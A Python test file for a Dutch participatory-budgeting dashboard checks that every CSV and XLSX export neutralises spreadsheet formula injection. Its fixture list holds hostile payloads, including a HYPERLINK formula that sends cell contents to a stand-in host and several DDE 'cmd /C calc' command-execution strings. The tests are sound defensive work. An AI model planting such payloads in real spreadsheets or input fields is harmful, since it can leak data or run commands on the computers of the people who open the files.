"""Formula injection: text typed by anyone (a proposal title, a theme, a reason, a payment
description from the finance export, a register value) opens in a spreadsheet as text,
in every CSV and XLSX the app or the command line makes."""

from __future__ import annotations

import ast
import csv
import io
import re
from pathlib import Path

import openpyxl
import pandas as pd
import pytest

from dashboard.components import monitor_tables
from dashboard.components.decisions_view import decisions_csv, projects_csv
from dashboard.components.exports import csv_bytes, rows_csv, xlsx_bytes
from dashboard.domain.auth import Caller, Role
from dashboard.services import monitor, public
from dashboard.services.budget.decisions import publish_decision, record_decision
from dashboard.services.budget.envelopes import add_envelope
from dashboard.services.budget.milestones import add_milestone
from dashboard.services.budget.proposals import add_theme
from dashboard.services.budget.spending_import import import_spending
from dashboard.store import proposals
from dashboard.store.db import open_store
from sortition.cli import main as sortition_cli
from sortition.text import spreadsheet_safe
from tests.conftest import DEMO_TODAY
from tests.funded import ORGANISER, Council, neighbourhood_council

REPO = Path(__file__).resolve().parents[2]
DANGEROUS = ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20")
HOSTILE = [
    '=HYPERLINK("http://example.invalid/?x="&A1,"Klik hier")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    "\uff1dHYPERLINK()",
]
# Not at the start, but after a line break inside the cell: must stay inside its cell.
INSIDE = ["Bankjes\r=1+1", "Verf\n=1+1"]
ALDERMAN = Caller("wethouder", Role.ALDERMAN, None)


def starts_a_formula(cell: object) -> bool:
    """True for text a spreadsheet would run; a plain number such as -1250,5 is data."""
    if not isinstance(cell, str) or not cell or re.fullmatch(r"[+-]?\d+([.,]\d+)?", cell):
        return False
    return cell[0] in DANGEROUS or cell.lstrip()[:1] in DANGEROUS


def csv_cells(data: bytes) -> list[str]:
    text = data.decode("utf-8-sig")
    delimiter = ";" if text.splitlines()[0].count(";") >= text.splitlines()[0].count(",") else ","
    rows = csv.reader(io.StringIO(text, newline=""), delimiter=delimiter)
    return [cell for row in rows for cell in row]


def xlsx_cells(data: bytes) -> list[openpyxl.cell.cell.Cell]:
    sheet = openpyxl.load_workbook(io.BytesIO(data)).active
    return [cell for row in sheet.iter_rows() for cell in row]


def assert_csv_safe(data: bytes, payloads: list[str]) -> None:
    cells = csv_cells(data)
    assert not [c for c in cells if starts_a_formula(c)], cells
    for payload in payloads:  # the text is still there, as text
        assert "'" + payload in cells, payload


def assert_xlsx_safe(data: bytes, payloads: list[str]) -> None:
    cells = xlsx_cells(data)
    assert not [c.value for c in cells if c.data_type == "f"]
    assert not [c.value for c in cells if starts_a_formula(c.value)]
    values = {c.value for c in cells}
    for payload in payloads:  # XML reads a CR back as a line feed
        assert "'" + payload.replace("\r", "\n") in values, payload


@pytest.mark.parametrize("payload", HOSTILE)
def test_text_that_starts_a_formula_gets_an_apostrophe(payload: str) -> None:
    safe = spreadsheet_safe(payload)
    assert safe == "'" + payload
    assert not starts_a_formula(safe)


@pytest.mark.parametrize("value", ["-12,50", "+31", "-0.5", "Speeltuin", "", "2026-03-01", 12.5,
                                   -3, None, "e=mc2"])  # fmt: skip
def test_numbers_and_ordinary_text_stay_as_they_are(value: object) -> None:
    assert spreadsheet_safe(value) == value


def test_every_writer_escapes_cells_and_headers() -> None:
    texts = HOSTILE + INSIDE
    frame = pd.DataFrame(
        {"Wijk": texts, "Bedrag (€)": [-1250.5] * len(texts), "=kop": ["x"] * len(texts)}
    )
    for data in (csv_bytes(frame), rows_csv(list(frame.columns), frame.values.tolist())):
        assert_csv_safe(data, [*HOSTILE, "=kop"])
        rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""), delimiter=";"))
        assert len(rows) == 1 + len(texts) and {len(row) for row in rows} == {3}
        assert [row[0] for row in rows[-2:]] == INSIDE  # one cell each, line break inside
        # A negative amount stays a number (with cents in a money column of a frame).
        assert {"-1250,50", "-1250,5"} & set(csv_cells(data))
    book_ = xlsx_bytes(frame, "Wijken 2026")
    assert_xlsx_safe(book_, [*HOSTILE, "=kop"])
    numbers = [c.value for c in xlsx_cells(book_) if c.data_type == "n"]
    assert numbers == [-1250.5] * len(texts)


def test_xlsx_drops_control_characters_it_cannot_hold() -> None:
    frame = pd.DataFrame({"Omschrijving": ["Verf\x01 en\x1f kwasten", "=\x02x"]})
    cells = [c.value for c in xlsx_cells(xlsx_bytes(frame, "a:b/c"))]
    assert cells == ["Omschrijving", "Verf en kwasten", "'=x"]


def test_no_module_writes_csv_or_xlsx_outside_the_exports() -> None:
    """Every spreadsheet file in the app comes from dashboard/components/exports.py (or, for
    the sortition tools, sortition/spreadsheet.py, which uses the same escaping); every
    download button that offers CSV or XLSX sits in a module that uses it. (JSON
    downloads, such as a draw's verification bundle, are no spreadsheet.)"""
    writers = {"to_csv", "to_excel", "writer", "DictWriter", "ExcelWriter", "Workbook"}
    allowed = {"dashboard/components/exports.py", "sortition/spreadsheet.py"}
    found, buttons = [], []
    for folder in ("dashboard", "sortition", "streamlit_app.py"):
        paths = [REPO / folder] if folder.endswith(".py") else (REPO / folder).rglob("*.py")
        for path in paths:
            name = path.relative_to(REPO).as_posix()
            source = path.read_text(encoding="utf-8")
            for node in ast.walk(ast.parse(source)):
                if not (isinstance(node, ast.Call) and isinstance(node.func, ast.Attribute)):
                    continue
                if node.func.attr in writers and name not in allowed:
                    found.append(f"{name}:{node.lineno} {node.func.attr}")
                if node.func.attr == "download_button" and _spreadsheet(node):
                    buttons.append(name)
                    assert "dashboard.components.exports import" in source, name
    assert not found, found
    assert len(buttons) >= 3  # the residents' two and the monitor's


def _spreadsheet(call: ast.Call) -> bool:
    """A download of CSV or XLSX (by its mime type or file name), or of unknown type."""
    words = {k.arg: ast.unparse(k.value) for k in call.keywords}
    kind = words.get("mime", "") + words.get("file_name", "")
    return not kind or any(w in kind for w in ("csv", "sheet", "xlsx", "excel"))


def test_every_export_of_the_app_escapes_what_users_typed(demo_db: Path) -> None:
    store = open_store(demo_db)
    try:
        theme = add_theme(store, ORGANISER, "=HYPERLINK(thema)")
        base = neighbourhood_council(store)
        seat = Council(base.council_id, base.meeting_id, theme)
        envelope = add_envelope(store, ORGANISER, 1, DEMO_TODAY.year, "fonds", "9.000", "T")
        proposal_id = seat.proposal(store, HOSTILE[0])
        decision_id = record_decision(
            store, ORGANISER,
            seat.decision(proposal_id, "4.000", envelope,
                          rationale="@SUM(1+1) goed plan voor de buurt"),
        )  # fmt: skip
        publish_decision(store, ORGANISER, decision_id)
        add_milestone(store, ORGANISER, proposal_id, "Start", None, "-2+3 bankjes", "klaar")
        with store.read() as cur:
            ref = proposals.proposal(cur, proposal_id).external_ref  # type: ignore[union-attr]
        export = f"kenmerk;datum;bedrag;omschrijving;project\n+REF-1;{DEMO_TODAY};100;=1+2;{ref}\n"
        assert import_spending(store, ORGANISER, "e.csv", export.encode()).ok

        # Residents' downloads.
        published = public.decisions(store, 1, DEMO_TODAY.year)
        assert_csv_safe(decisions_csv(published), [HOSTILE[0], "@SUM(1+1) goed plan voor de buurt"])
        projects = public.projects(store, 1, DEMO_TODAY)
        assert_csv_safe(projects_csv(projects), [HOSTILE[0], "-2+3 bankjes"])

        # Every table the monitor offers as CSV and XLSX.
        view = monitor.monitor(store, ALDERMAN, DEMO_TODAY.year, 1, DEMO_TODAY)
        detail = monitor.detail(store, ALDERMAN, 1, DEMO_TODAY.year)
        councils = monitor.representation(store, ALDERMAN, DEMO_TODAY)
        themes = monitor.themes(store, ALDERMAN)
        frames = {
            "wijken": monitor_tables.neighbourhood_frame(view),
            "vastgelopen": monitor_tables.stalled_frame(view),
            "overschrijdingen": monitor_tables.overspend_frame(view),
            "raden": monitor_tables.council_frame(councils),
            "respons": monitor_tables.response_frame(councils),
            "themas": monitor_tables.theme_neighbourhoods_frame(themes, view, DEMO_TODAY.year),
            "themas-jaar": monitor_tables.theme_years_frame(themes),
            "toekenningen": monitor_tables.allocations_frame(detail.allocations),
            "betalingen": monitor_tables.payments_frame(detail.payments),
        }
        expected = {
            "themas": ["=HYPERLINK(thema)"],
            "themas-jaar": ["=HYPERLINK(thema)"],
            "toekenningen": [HOSTILE[0]],
            "betalingen": [HOSTILE[0], "=1+2", "+REF-1"],
        }
        for name, frame in frames.items():
            assert_csv_safe(csv_bytes(frame), expected.get(name, []))
            assert_xlsx_safe(xlsx_bytes(frame, name), expected.get(name, []))
    finally:
        store.close()


def test_the_invitation_lottery_writes_register_values_as_text(tmp_path: Path) -> None:
    register = tmp_path / "register.csv"
    pd.DataFrame(
        {
            "id": [f"=P{i}" if i == 3 else str(i) for i in range(60)],
            "household": [str(i) for i in range(60)],
            "neighbourhood": ["@Noord" if i < 30 else "Zuid" for i in range(60)],
            "age": [20 + i for i in range(60)],
        }
    ).to_csv(register, index=False)
    out, strata = tmp_path / "inv.csv", tmp_path / "strata.csv"
    assert sortition_cli(["invite", "--register", str(register), "--n", "60", "--out", str(out),
                          "--strata-out", str(strata)]) == 0  # fmt: skip
    assert_csv_safe(out.read_bytes(), ["=P3", "@Noord"])
    assert_csv_safe(strata.read_bytes(), ["@Noord"])
